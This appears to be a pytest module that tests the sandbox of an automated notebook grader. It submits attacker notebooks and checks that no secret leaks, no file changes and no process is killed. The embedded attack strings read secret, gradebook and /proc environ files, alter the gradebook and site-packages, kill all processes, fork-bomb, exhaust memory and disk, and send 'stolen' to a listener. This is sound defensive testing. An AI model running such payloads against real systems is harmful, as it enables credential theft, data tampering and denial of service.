"""Attacks on the grader, and what must hold after a batch of them is graded.

Each attacker hands in a correct 04 plus one code cell (run in the notebook's kernel) or one
definition default (run in the check child) that attacks the grader: reads the gradebook,
the source, the secret; writes the gradebook, the course, the environment; kills its
parent and every process it can see; floods processes; connects to a listener; submits
symbolic links, floods the output, exhausts memory, fills the disk, submits files that shadow
modules (numpy.py, sitecustomize.py, conftest.py); goes for the grading account itself:
writes into its home, reads its secret file (`~/.config/tensor-gears/secret`), reads and kills
its other processes (what only a rootless box, which is that account outside, could allow);
and goes for the templates kernels are forked from: one kernel leaves traces (files, memory),
a later one looks for them, for other processes and for a template's channel among its
descriptors.
Two clean students are graded before and after them. Afterwards: every student has the 15
points of a correct 04, nothing outside the attackers' own autograded folders changed (the
grader's home included), the gradebook schema is the same, no process is left and the
grader's other process lives, no connection arrived, the secret reached no output, and a
later run in a fresh process is unaffected.

The test modules (`test_attacks_*.py`) grade the batch as root or as the unprivileged
instructor, with `tensor-gears grade` or plain `nbgrader autograde`; `stage` builds the
course, `Attacked` is what they hand to the checks below, which they import.
"""

import hashlib
import json
import os
import socket
import sqlite3
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

from tensor_gears.contract import ASSIGNMENT, TASKS
from tensor_gears.notebooks import read
from tensor_gears.reference import solution

import pytest

from .accounts import INSTRUCTOR, as_account, give, login_environment, owned_folder, popen_as_account, remove
from .conftest import grades, make_course, submit
from .processes import left_behind

SECRET = "attack-test-secret-0f3c9a"
NOTEBOOK = "04_reshaping"  # no timing checks: the batch costs what the attacks cost
BIN = Path(sys.executable).parent
POINTS = sum(task.points for task in TASKS if task.notebook == NOTEBOOK)
LOGS = ("tensor-gears-grade.log", ".nbgrader.log")  # the grading commands' own logs
KERNEL_ATTACKS = {
    "reads_everything": """
import glob, os
for pattern in ["../../../gradebook.db", "../../../source/*/*.ipynb", "/work/*/tensor_gears/checks/*.py",
                "/proc/1/environ", "/root/*"]:
    for path in glob.glob(pattern):
        try:
            print(path, open(path, "rb").read()[:2000])
        except OSError as error:
            print(path, error)
print(dict(os.environ))
""",
    "writes_the_gradebook": """
import sqlite3
db = sqlite3.connect("../../../gradebook.db")
db.execute("UPDATE grade SET manual_score = 0")
db.execute("CREATE TRIGGER bonus AFTER INSERT ON grade BEGIN UPDATE grade SET extra_credit = 1000; END")
db.commit()
""",
    "poisons_the_environment": """
import os, site, sys
for folder in site.getsitepackages() + [sys.prefix]:
    try:
        open(os.path.join(folder, "zz_poison.pth"), "w").write("import os; os.environ['POISONED'] = '1'\\n")
    except OSError as error:
        print(error)
for path in ["../../../nbgrader_config.py", "../../../source/tensor_ops/01_elementwise.ipynb"]:
    try:
        open(path, "a").write("# poisoned")
    except OSError as error:
        print(error)
""",
    "kills_everything": """
import os, signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    "floods_processes": """
import os, time
children = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("forked", children)
""",
    "floods_output": """
for _ in range(300):
    print("x" * 10**6)
""",
    "exhausts_memory": """
hoard = []
while True:
    hoard.append(bytearray(1 << 28))
""",
    "fills_the_disk": """
import os
with open("filler", "wb") as out:
    for _ in range(1024):
        out.write(os.urandom(1 << 20))
""",
    "attacks_the_grader": """
import os, signal
home, victim = {home!r}, {victim}
for path in [os.path.join(home, ".config/tensor-gears/secret"), f"/proc/{{victim}}/environ",
             f"/proc/{{victim}}/cmdline"]:
    try:
        print(path, open(path).read())
    except OSError as error:
        print(path, error)
for path in [os.path.join(home, "pwned"), os.path.join(home, ".bashrc"), os.path.join(home, "canary.txt")]:
    try:
        open(path, "a").write("pwned")
    except OSError as error:
        print(path, error)
for pid in [victim, -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(pid, error)
""",
    "leaves_traces": """
import builtins, os
mark = "trace-of-" + "an-earlier-kernel"
for path in ["/tmp/trace", "trace", "/dev/shm/trace", os.path.expanduser("~/trace"), "/sandbox/stage/trace"]:
    try:
        open(path, "w").write(mark)
    except OSError as error:
        print(path, error)
os.environ["TRACE"] = builtins.trace = mark
""",
    "seeks_traces": """
import builtins, json, os, socket
def writable_files(top):  # an earlier kernel can leave nothing on a read-only mount (the environment's)
    for folder, folders, files in os.walk(top):
        if os.statvfs(folder).f_flag & os.ST_RDONLY:
            folders.clear()
            continue
        yield from (os.path.join(folder, name) for name in files)
traces = []
for path in [path for top in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/sandbox")
             for path in writable_files(top)]:
    try:
        if os.path.isfile(path) and b"an-earlier" + b"-kernel" in open(path, "rb").read():  # not in its own history
            traces.append(path)
    except OSError:
        pass
if "TRACE" in os.environ or hasattr(builtins, "trace"):
    traces.append("memory")
threads = set(os.listdir("/proc/self/task"))
others = []
for pid in range(1, 1 << 15):
    try:
        os.kill(pid, 0)
        if str(pid) not in threads and pid != os.getpid():
            others.append(pid)
    except OSError:
        pass
replies = []
for fd in range(3, 1024):
    try:
        channel = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    if channel.type == socket.SOCK_SEQPACKET:  # the kind of socket a template listens on
        try:
            channel.settimeout(1)
            channel.send(json.dumps(dict(op="fork", spec=dict())).encode())
            replies.append(channel.recv(1000).decode())
        except OSError as error:
            replies.append(str(error))
    channel.close()
print("TRACES", traces, "OTHERS", others, "REPLIES", replies)
""",
    "calls_home": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
except OSError as error:
    print("no network:", error)
""",
}
# Run in the check child when the definitions load (a default value is computed at `def`).
CHILD_ATTACK = """
import os


def _steal():  # its paths built at run time: what the source rules cannot see, the box must contain
    for path in ["../../../gradebook.db", "/work", "/root", "/".join(["", "proc", "1", "environ"])]:
        try:
            os.listdir(path) if os.path.isdir(path) else open(path, "a").write("poisoned")
        except OSError:
            pass
    for pid in [os.getppid(), 1]:
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def _payload(loot=_steal()):
    return loot
"""


def fingerprint(*folders: Path) -> dict[str, str]:
    """A hash of every file under `folders` (the course files, the environment)."""
    found = {}
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink() and "__pycache__" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def schema(course: Path) -> list:
    with sqlite3.connect(course / "gradebook.db") as db:
        return sorted(db.execute("SELECT type, name, sql FROM sqlite_master").fetchall())


def add_cell(folder: Path, code: str):
    path = folder / f"{NOTEBOOK}.ipynb"
    nb = read(path)
    nb.cells.append({"cell_type": "code", "id": "attack", "metadata": {}, "source": code,
                     "outputs": [], "execution_count": None})
    path.write_text(json.dumps(nb))


GRADE = ["tensor-gears", "grade", "--cell-timeout", "20"]  # two workers on this machine
AUTOGRADE = ["nbgrader", "autograde", ASSIGNMENT, "--Execute.timeout=20"]
LATER_RUN = ["nbgrader", "autograde", ASSIGNMENT, "--student", "z_clean", "--force"]


@dataclass
class Attacked:
    """A graded batch of attackers: the course, the grading run, what was there before."""

    course: Path
    run: subprocess.CompletedProcess
    before: dict[str, str]
    tables: list
    arrived: bytes
    home: Path  # the grading account's home while it graded (a scratch one)
    victim: subprocess.Popen  # another process of the grading account
    account: str | None  # who graded: None for this process's user (root)

    def grade(self, argv: list[str]) -> subprocess.CompletedProcess:
        """`argv` run in the course folder by the grading account, as it ran the batch."""
        environment = {"HOME": str(self.home), "TENSOR_GEARS_SECRET": SECRET}
        if self.account is None:
            return subprocess.run(argv, cwd=self.course, capture_output=True, text=True,
                                  env={**os.environ, **environment, "PATH": f"{BIN}:{os.environ['PATH']}"})
        return as_account(self.account, argv, cwd=self.course, env=login_environment(self.account, **environment))


def graded_attacks(folder: Path, account: str | None, argv: list[str]) -> Attacked:
    """Release a course in `folder`, stage the attackers, and grade them with `argv` as `account`."""
    course, home = make_course(folder / "course"), folder / "home"
    home.mkdir()
    make_home(home)
    if account is not None:
        give(account, folder)
    attacked = Attacked(course, None, {}, [], b"", home, None, account)
    for step in (["nbgrader", "generate_assignment", ASSIGNMENT], ["nbgrader", "db", "assignment", "add", ASSIGNMENT]):
        done = attacked.grade(step)
        assert done.returncode == 0, done.stderr[-3000:]
    victim = ["sleep", "900"]
    attacked.victim = subprocess.Popen(victim) if account is None else popen_as_account(account, victim)
    listener = listen()
    stage(course, home, attacked.victim.pid, listener)
    if account is not None:
        give(account, folder)
    attacked.before, attacked.tables = course_state(course, home), schema(course)
    attacked.run = attacked.grade(argv)
    attacked.arrived = arrivals(listener)
    return attacked


def rootless_attacks(argv: list[str]):
    """A module fixture: the batch graded with `argv` by the unprivileged instructor account."""

    @pytest.fixture(scope="module")
    def attacked():
        folder = owned_folder(INSTRUCTOR, "attacks")
        graded = graded_attacks(folder, INSTRUCTOR, argv)
        yield graded
        graded.victim.kill()
        remove(folder)

    return attacked


def stage(course: Path, home: Path, victim_pid: int, listener: socket.socket) -> None:
    """Submit the clean students and the attackers into a released course with a gradebook."""
    correct = {task.name: "reference" for task in TASKS if task.notebook == NOTEBOOK}
    submit(course, "a_clean", correct, (NOTEBOOK,))
    port = listener.getsockname()[1]
    for name, code in KERNEL_ATTACKS.items():
        add_cell(submit(course, f"k_{name}", correct, (NOTEBOOK,)),
                 code.format(port=port, home=str(home), victim=victim_pid) if "{" in code else code)
    attacking = {**correct, "flatten_images": solution("flatten_images") + CHILD_ATTACK}
    submit(course, "k_child_attack", attacking, (NOTEBOOK,))
    links = submit(course, "k_symlinks", correct, (NOTEBOOK,))
    (links / "notes.txt").symlink_to(course / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    (links / "checks.txt").symlink_to("/proc/self/environ")
    shadows = submit(course, "k_shadow_files", correct, (NOTEBOOK,))
    for module in ("numpy.py", "sitecustomize.py", "conftest.py", "usercustomize.py"):
        (shadows / module).write_text("import os\nos._exit(9)\n")
    submit(course, "z_clean", correct, (NOTEBOOK,))


def make_home(home: Path) -> None:
    """The grading account's scratch home: its secret file (mode 0600) and a canary."""
    (home / ".config" / "tensor-gears").mkdir(parents=True)
    secret = home / ".config" / "tensor-gears" / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    (home / "canary.txt").write_text("the instructor's own file")


def stamps(folder: Path) -> dict[str, tuple]:
    """Every file's inode, size and change time under `folder`: the environment's 2 GB are too
    much to hash twice per batch, and a write changes a file's change time, which no process
    can set back (utime sets the modification time only)."""
    found = {}
    for root, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if name != "__pycache__"]
        for name in files:
            status = os.lstat(path := os.path.join(root, name))
            if stat.S_ISREG(status.st_mode):
                found[path] = (status.st_ino, status.st_size, status.st_ctime_ns)
    return found


def course_state(course: Path, home: Path) -> dict:
    """What no attacker may change: hashes of the course's files and the home, the environment's stamps."""
    state = fingerprint(course / "source", course / "release", home)
    state.update(stamps(Path(sys.prefix) / "lib"))
    state.update(fingerprint(*[p for p in course.iterdir() if p.is_file() and p.name != "gradebook.db"
                               and p.name not in LOGS]))
    return state


def listen() -> socket.socket:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    return listener


def arrivals(listener: socket.socket) -> bytes:
    try:
        arrived = listener.accept()[0].recv(100)
    except TimeoutError:
        arrived = b""
    listener.close()
    return arrived


def test_the_batch_completes(attacked):
    assert attacked.run.returncode == 0, attacked.run.stderr[-3000:]
    graded = sorted(p.name for p in (attacked.course / "autograded").iterdir())
    assert graded == sorted(["a_clean", "z_clean", "k_child_attack", "k_symlinks", "k_shadow_files"]
                            + [f"k_{n}" for n in KERNEL_ATTACKS])


def test_every_student_earns_exactly_what_a_correct_notebook_earns(attacked):
    for student in [p.name for p in (attacked.course / "autograded").iterdir()]:
        scores = grades(attacked.course, student)
        assert sum(scores.values()) == POINTS, (student, scores)


def test_nothing_outside_the_attackers_folders_changed(attacked):
    assert course_state(attacked.course, attacked.home) == attacked.before
    assert not (attacked.home / "pwned").exists()
    assert schema(attacked.course) == attacked.tables
    assert not list(Path(sys.prefix).glob("lib/python*/site-packages/zz_poison.pth"))


def test_no_secret_no_solution_and_no_link_reached_any_output(attacked):
    solution_marker = "### BEGIN SOLUTION"
    for path in (attacked.course / "autograded").rglob("*"):
        if path.is_file():
            text = path.read_text(errors="replace")
            assert SECRET not in text, path
            assert solution_marker not in text, path
    links = attacked.course / "autograded" / "k_symlinks" / ASSIGNMENT
    assert not (links / "notes.txt").exists()
    assert not (links / "checks.txt").exists()


def test_no_connection_arrived_and_no_process_is_left(attacked):
    assert attacked.arrived == b""
    assert attacked.victim.poll() is None, "the grading account's other process was killed"
    assert left_behind() == []


def test_a_flood_of_output_is_cut_before_it_reaches_the_notebook(attacked):
    notebook = attacked.course / "autograded" / "k_floods_output" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    assert notebook.stat().st_size < 4 << 20
    assert "[output truncated" in notebook.read_text()


def test_no_kernel_finds_an_earlier_ones_traces_a_sibling_or_a_template(attacked):
    """Kernels come from templates: what one left (files, memory), the other kernels and the
    template's own channel stay out of reach of every later one (nbgrader grades in order)."""
    notebook = attacked.course / "autograded" / "k_seeks_traces" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    attack = next(cell for cell in read(notebook).cells if 'print("TRACES"' in cell.source)
    said = "".join(output.get("text") or f"{output.get('ename')}: {output.get('evalue')}"
                   for output in attack.get("outputs", []))
    assert said == "TRACES [] OTHERS [1] REPLIES []\n", said[-2000:]  # 1: its box's init


def test_a_later_run_in_a_fresh_process_is_unaffected(attacked):
    run = attacked.grade(LATER_RUN)
    assert run.returncode == 0, run.stderr[-3000:]
    assert sum(grades(attacked.course, "z_clean").values()) == POINTS


def test_the_batch_was_graded_in_the_box_of_its_account(attacked):
    results = json.loads((attacked.course / "autograded" / "a_clean" / ASSIGNMENT / "results.json").read_text())
    assert results["extra_data"]["isolation_mode"] == ("root" if attacked.account is None else "rootless")
